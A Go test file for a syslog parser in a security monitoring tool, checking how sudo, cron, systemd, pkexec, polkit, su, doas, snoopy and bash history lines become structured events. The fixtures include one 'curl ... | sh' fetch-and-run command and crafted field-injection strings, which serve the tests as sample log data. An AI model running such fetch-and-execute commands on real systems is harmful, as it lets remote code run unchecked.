package parse

import (
	"testing"

	sentinel "github.com/sentinel-ai/sentinel-ai"
)

// TestRan holds which commands lines of syslog tell, and that what was run is
// never taken for anything else.
func TestRan(t *testing.T) {
	for _, x := range []struct {
		text, user, outcome, cmd, cwd string
		kind                          sentinel.EventType
	}{
		{"sudo:   bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id -u", "bob", "success", "/usr/bin/id -u", "/home/bob", sentinel.EventSudo},
		{"sudo:   bob : command not allowed ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh ; COMMAND=x", "bob", "failure", "/bin/sh ; COMMAND=x", "/", sentinel.EventSudo},
		{"CRON[7]: (root) CMD (test -x /x && (cd / && run-parts /etc/cron.hourly))", "root", "", "test -x /x && (cd / && run-parts /etc/cron.hourly)", "", sentinel.EventExec},
		{"systemd[1]: Started /usr/bin/sh -c true.", "", "", "/usr/bin/sh -c true", "", sentinel.EventExec},
		{"systemd[1]: Started run-u7.service - [systemd-run] /usr/bin/sh -c true.", "", "", "/usr/bin/sh -c true", "", sentinel.EventExec},
		{"systemd[1]: Started nginx.service - A server.", "", "", "", "", sentinel.EventOther},
		{"systemd[1]: Stopped nginx.service - A server.", "", "", "", "", sentinel.EventSvcStop},
		{"pkexec[7]: bob: Executing command [USER=root] [TTY=/dev/pts/0] [CWD=/home/bob] [COMMAND=/usr/bin/id]", "bob", "success", "/usr/bin/id", "/home/bob", sentinel.EventSudo},
		{"pkexec[7]: bob: Error executing command as another user: Not authorized [USER=root] [TTY=unknown] [CWD=/tmp] [COMMAND=/bin/sh]", "bob", "failure", "/bin/sh", "/tmp", sentinel.EventSudo},
		{"polkitd(authority=local): Operator of unix-session:2 FAILED to authenticate to gain authorization for action org.freedesktop.policykit.exec for unix-process:7:1 [x (owned by unix-user:eve)] (owned by unix-user:bob)", "bob", "failure", "", "", sentinel.EventSudo},
		{"polkitd[7]: Registered Authentication Agent for unix-session:2", "", "", "", "", sentinel.EventOther},
		{"su: BAD SU bob to root on /dev/pts/0", "root", "failure", "", "", sentinel.EventSu},
		{"doas: bob ran command /usr/bin/echo as x from y as root from /home/bob", "bob", "success", "/usr/bin/echo as x from y", "/home/bob", sentinel.EventSudo},
		{"doas: failed auth for bob", "bob", "failure", "", "", sentinel.EventSudo},
		{"doas: command not permitted for bob: /bin/sh: x", "bob", "failure", "/bin/sh: x", "", sentinel.EventSudo},
		{"snoopy[7]: [login:bob uid:0 tty:/dev/pts/0 cwd:/root filename:/usr/bin/id]: id ]: login:eve", "bob", "", "id ]: login:eve", "/root", sentinel.EventExec},
		{"bash: HISTORY: PID=7 UID=1000 curl http://192.0.2.1/x | sh", "", "", "curl http://192.0.2.1/x | sh", "", sentinel.EventExec},
		{"-bash: HISTORY: PID=7 PPID=6 SID=6  User=bob id", "bob", "", "id", "", sentinel.EventExec},
		{"bash: hello", "", "", "", "", sentinel.EventOther},
	} {
		var ev sentinel.Event
		New(Config{}).Parse("Mar  1 12:00:00 h "+x.text, arrival, arrival, &ev)
		if ev.Type != x.kind || ev.User != x.user || ev.Outcome != x.outcome || ev.Exec.Cmdline != x.cmd || ev.Exec.Cwd != x.cwd || ev.SrcIP.IsValid() {
			t.Errorf("%s:\n%v, user %q, outcome %q, %+v", x.text, ev.Type, ev.User, ev.Outcome, ev.Exec)
		}
	}
}

// TestKernelAudit holds that records in the kernel's own log have their fields.
func TestKernelAudit(t *testing.T) {
	var ev sentinel.Event
	text := `audit: type=1701 audit(1772366398.123:9): auid=1000 uid=1000 gid=1000 ses=2 subj=unconfined pid=77 comm="sudo" exe="/usr/bin/sudo" sig=11 res=1`
	New(Config{}).Parse("Mar  1 12:00:00 h kernel: [12345.678901] "+text, arrival, arrival, &ev)
	if ev.SourceType != sentinel.TypeKernel || ev.Message != text || ev.Exec.Image != "/usr/bin/sudo" || auditField(ev.Fields, "type") != "ANOM_ABEND" ||
		auditField(ev.Fields, "sig") != "11" || ev.Serial != 0 || ev.Program != "kernel" {
		t.Errorf("%+v", ev)
	}
}
